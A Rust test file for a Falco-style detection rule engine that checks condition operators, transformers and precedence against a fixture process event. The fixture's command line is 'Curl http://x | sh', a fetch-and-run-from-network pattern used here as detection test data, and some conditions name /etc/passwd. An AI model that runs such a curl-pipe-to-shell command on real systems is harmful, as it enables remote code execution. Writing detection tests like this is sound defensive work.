//! Every comparison operator, true and false, and boolean structure.

use crate::common::*;

fn bash() -> vigil_events::Event {
    exec(
        "bash",
        "/usr/bin/bash",
        &["/bin/bash", "-c", "Curl http://x | sh"],
        "/tmp",
    )
}

#[track_caller]
fn yes(cond: &str) {
    assert!(matches(cond, &bash()), "expected match: {cond}");
}

#[track_caller]
fn no(cond: &str) {
    assert!(!matches(cond, &bash()), "expected no match: {cond}");
}

#[test]
fn equality_and_ordering() {
    yes("proc.name = bash");
    yes("proc.name == bash");
    no("proc.name = sh");
    yes("proc.name != sh");
    no("proc.name != bash");
    yes("proc.pid = 100");
    yes("proc.pid < 101");
    no("proc.pid < 100");
    yes("proc.pid <= 100");
    no("proc.pid <= 99");
    yes("proc.pid > 99");
    no("proc.pid > 100");
    yes("proc.pid >= 100");
    no("proc.pid >= 101");
    yes("proc.pid = 0x64");
    yes("user.uid = 0");
    yes("evt.failed = false");
    no("evt.failed = true");
}

#[test]
fn list_operators() {
    yes("proc.name in (sh, bash)");
    no("proc.name in (sh, zsh)");
    no("proc.name in ()");
    yes("proc.name intersects (bash)");
    no("proc.name intersects (zsh)");
    yes("proc.cwd pmatch (/tmp, /var/tmp)");
    yes("proc.exepath pmatch (/usr/bin)");
    no("proc.exepath pmatch (/usr/b)");
    yes("proc.pid in (1, 100)");
    no("proc.pid in (1, 2)");
}

#[test]
fn string_operators() {
    yes("proc.cmdline contains \"http://x\"");
    no("proc.cmdline contains wget");
    yes("proc.cmdline icontains curl");
    no("proc.cmdline icontains wget");
    yes("proc.exepath startswith /usr/");
    no("proc.exepath startswith /bin/");
    yes("proc.exepath endswith /bash");
    no("proc.exepath endswith /sh");
    yes("proc.exepath glob /usr/*/ba?h");
    no("proc.exepath glob /bin/*");
    yes("proc.exepath iglob /USR/BIN/*");
    no("proc.exepath glob /USR/BIN/*");
    yes("proc.name regex 'ba(sh|d)'");
    no("proc.name regex 'ba'");
    yes("proc.name bcontains 6173");
    no("proc.name bcontains 7a");
    yes("proc.name bstartswith 6261");
    no("proc.name bstartswith 6173");
    yes("proc.cmdline startswith anyof (zsh, bash)");
    no("proc.cmdline startswith allof (zsh, bash)");
    yes("proc.cmdline contains allof (Curl, sh)");
    no("proc.cmdline contains oneof (http, sh)");
    yes("proc.cmdline contains oneof (http, zzz)");
}

#[test]
fn exists_and_missing_values() {
    yes("proc.name exists");
    no("fd.name exists");
    // A missing field makes every comparison false, `!=` included; `not` inverts.
    no("fd.name = /etc/passwd");
    no("fd.name != /etc/passwd");
    yes("not fd.name = /etc/passwd");
    no("container.image.tag = x");
    yes("not container.image.tag = x");
    // On the host, container.id is `host` (as in Falco).
    yes("container.id = host");
}

#[test]
fn comparing_two_fields() {
    yes("proc.name = val(proc.name)");
    no("proc.name = val(proc.pname)");
    yes("proc.pid > val(proc.ppid)");
    yes("proc.exepath endswith val(proc.name)");
}

#[test]
fn transformers() {
    yes("toupper(proc.name) = BASH");
    yes("tolower(proc.exe) = /bin/bash");
    yes("basename(proc.exepath) = bash");
    yes("len(proc.name) = 4");
    let rs = load_ok(&rule("b64(proc.name) = x"));
    assert_eq!(
        rs.rules()[0].disabled_reason.as_deref(),
        Some("field transformer b64() is not supported yet")
    );
}

#[test]
fn precedence_and_parentheses() {
    // not > and > or
    yes("proc.name = sh or proc.name = bash and proc.pid = 100");
    no("(proc.name = sh or proc.name = bash) and proc.pid = 1");
    yes("proc.name = sh or proc.name = bash and not proc.pid = 1");
    no("not proc.name = bash or proc.name = sh");
    yes("not (proc.name = sh or proc.pid = 1)");
    yes("not not proc.name = bash");
    yes("not(proc.name = sh)");
    yes("proc.name=bash and(proc.pid=100)");
    no("proc.name = bash and (proc.pid = 1 or proc.pid = 2)");
    yes("(((proc.name = bash)))");
}
